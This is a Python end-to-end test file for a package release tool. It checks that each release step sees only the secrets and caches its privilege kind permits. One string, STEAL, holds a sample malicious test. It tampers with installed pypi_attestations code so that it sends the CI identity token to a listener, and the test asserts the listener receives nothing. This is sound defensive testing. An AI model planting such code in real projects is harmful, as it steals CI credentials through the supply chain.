"""Every command that a release runs, held against the table of what its kind may see."""

from __future__ import annotations

import json
import sys
from collections import Counter
from collections.abc import Sequence
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
import step_recorder
from release_attacks import listening, start
from tests.e2e.bench import Bench, Ended
from tests.e2e.release_bench import Description, Outside, ReleaseBench, Sample

from wheelwright import privileges
from wheelwright.privileges import Cache, Credential, Kind

# Where each secret is seen, by name of the variable or path of the file.
SECRETS = {
    "/root/.netrc": Credential.INDEX,
    "GITHUB_TOKEN": Credential.GITHUB,
    "UV_PUBLISH_TOKEN": Credential.UPLOAD,
    "ACTIONS_ID_TOKEN_REQUEST_URL": Credential.IDENTITY,
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN": Credential.IDENTITY,
}
# What is no step of the module: its own process and environment, and the look at the sandbox.
MODULE = {"/run/stiletto", "--no-install-project", "true"}
RELEASE = "WHEELWRIGHT_RELEASE"

# Any test can do this to each copy of the program that signs which it finds.
STEAL = '''\
import os
import pathlib

PAYLOAD = """
import os, urllib.request
_token = os.environ.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "none").encode()
urllib.request.urlopen(urllib.request.Request("@LISTENER@/sign", _token))
"""


def test_as_any_dependency_could():
    roots = {os.environ.get("UV_CACHE_DIR"), "/cache", "/opt", str(pathlib.Path.home())}
    for root in filter(None, roots):
        for path in pathlib.Path(root).glob("**/pypi_attestations/__init__.py"):
            path.chmod(0o644)
            path.write_text(path.read_text() + PAYLOAD)
'''


@dataclass(frozen=True)
class Seen:
    """What one command could see."""

    args: tuple[str, ...]
    env: dict[str, str]
    secrets: tuple[str, ...]
    writable: tuple[str, ...]

    @property
    def kind(self) -> Kind:
        """The kind of this step, told by its command alone: what is unknown runs foreign code."""
        words = list(self.args)
        if words[0] == "timeout":
            words = words[3:]
        text = " ".join(words)
        if "refs.py" in text:
            return privileges.DATA if "checkout" in words else privileges.GIT
        if "distributions.py" in text and "normalise" not in words:
            return privileges.DATA
        if "uv publish" in text or words[0] == "pypi-attestations":
            return privileges.UPLOAD
        if words[:2] == ["uv", "venv"] or (words[0] == "uv" and "--no-build" in words):
            return privileges.DOWNLOAD
        return privileges.RELEASE


def recorded(bench: Bench, to: Path) -> Bench:
    """Return the bench whose command writes down what each step sees."""
    return replace(bench, program=[sys.executable, step_recorder.__file__, str(to)])


def seen(path: Path) -> list[Seen]:
    """Read what was written down, the module's own process and its environment left out."""
    rows = [json.loads(line) for line in path.read_text().splitlines()]
    rows = [row for row in rows if not MODULE & {*row["writable"], *row["args"]}]
    return [
        Seen(tuple(row["args"]), row["env"], tuple(row["secrets"]), tuple(row["writable"]))
        for row in rows
    ]


def wrong(steps: Sequence[Seen]) -> list[str]:
    """Return each step that saw more than its row of the table gives."""
    found = []
    for step in steps:
        row = step.kind
        more = [name for name in step.secrets if SECRETS.get(name) not in row.secrets]
        caches = step.writable if row.cache is Cache.NONE else ()
        if more or caches:
            found.append(f"{row.name}: {' '.join(step.args)} saw {more} {caches}")
    return found


def held(bench: ReleaseBench, path: Path, ended: Ended) -> list[Seen]:
    """Hold what is true of every release; return its steps."""
    steps = seen(path)
    path.unlink()

    assert [] == wrong(steps)
    # One release, and nothing that was made before it: not even by `ci` in the same store.
    assert 1 == len({step.env.get(RELEASE) for step in steps} - {None})
    assert [] == [step.args for step in steps if not step.env.get(RELEASE)]
    assert set(ended.cached) <= set(ended.ran), str(ended)
    return steps


@pytest.mark.e2e
@pytest.mark.network
@pytest.mark.slow
def test_every_step_of_a_release_sees_what_the_table_says(
    stiletto: Bench, tmp_path: Path, described: Description
) -> None:
    """Secrets and mounts of each command are those of its row; no earlier result answers one."""
    netrc, steps_file = tmp_path / "netrc", tmp_path / "steps"
    netrc.write_text("machine nowhere.invalid login reader password canary-19d7\n")
    flags = (f"--netrc=file://{netrc}",)
    sample = Sample()
    with Outside(tmp_path / "outside", described) as outside:
        bench = recorded(stiletto, steps_file)
        at = start(bench, outside, tmp_path / "source", sample, {"NOTES.md": "Notes.\n"})
        before = at.call(*flags, "ci", "--git", str(at.clone))
        assert 0 == before.code, str(before)
        assert [] == [step.args for step in seen(steps_file) if "GITHUB_TOKEN" in step.secrets]
        steps_file.unlink()
        ended = at.run(*flags, *at.releasing())
        assert 0 == ended.code, str(ended)
        steps = held(at, steps_file, ended)

    given = Counter(name for step in steps for name in step.secrets)
    assert {"/root/.netrc", "GITHUB_TOKEN", "UV_PUBLISH_TOKEN"} == set(given)
    assert 1 == given["UV_PUBLISH_TOKEN"]
    commands = [" ".join(step.args) for step in steps]
    for word in ("pytest", "uv build", "twine check", "uv publish", "refs.py"):
        assert any(word in command for command in commands), word


@pytest.mark.e2e
@pytest.mark.network
@pytest.mark.slow
def test_what_signs_comes_of_a_hashed_list(
    stiletto: Bench, tmp_path: Path, described: Description
) -> None:
    """A test that changes every copy of the signing program it finds learns no identity."""
    steps_file = tmp_path / "steps"
    with listening() as listener, Outside(tmp_path / "outside", described) as outside:
        outside.index.trust_project(Sample().name)
        files = {"tests/test_dependency.py": STEAL.replace("@LISTENER@", listener.url)}
        bench = recorded(stiletto, steps_file)
        at = start(bench, outside, tmp_path / "source", Sample(), files)
        ended = at.release_trusted("--attest=true")
        steps = held(at, steps_file, ended)
        heard = listener.heard

    assert [] == heard
    signing = [step for step in steps if "pypi-attestations" in step.args]
    listed = "/opt/tools/pypi-attestations.txt"
    assert 1 == len(signing), str(ended)
    (installing,) = [step for step in steps if listed in step.args]
    assert {"--no-build", "--require-hashes"} <= set(installing.args)
